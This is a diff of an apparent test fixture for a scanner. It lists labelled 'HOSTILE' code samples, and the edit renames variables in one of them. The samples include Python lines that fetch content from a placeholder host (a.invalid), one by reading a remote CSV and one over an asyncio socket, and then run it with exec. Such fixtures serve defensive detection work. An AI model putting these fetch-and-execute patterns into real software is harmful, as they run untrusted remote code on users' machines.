@@ -35,8 +35,8 @@ HOSTILE: dict[str, dict[str, Sample]] = {
         ),
         "a table behind an address": py("import pandas\nexec(pandas.read_csv('https://a.invalid/a.csv').iloc[0, 0])\n"),
         "a stream of asyncio": py(
-            "import asyncio\nasync def go():\n    r, w = await asyncio.open_connection('a.invalid', 1)\n"
-            "    exec(await r.read())\nasyncio.run(go())\n",
+            "import asyncio\nasync def go():\n    reader, writer = await asyncio.open_connection('a.invalid', 1)\n"
+            "    exec(await reader.read())\nasyncio.run(go())\n",
             line=4,
         ),
         "chunks in a list": js(
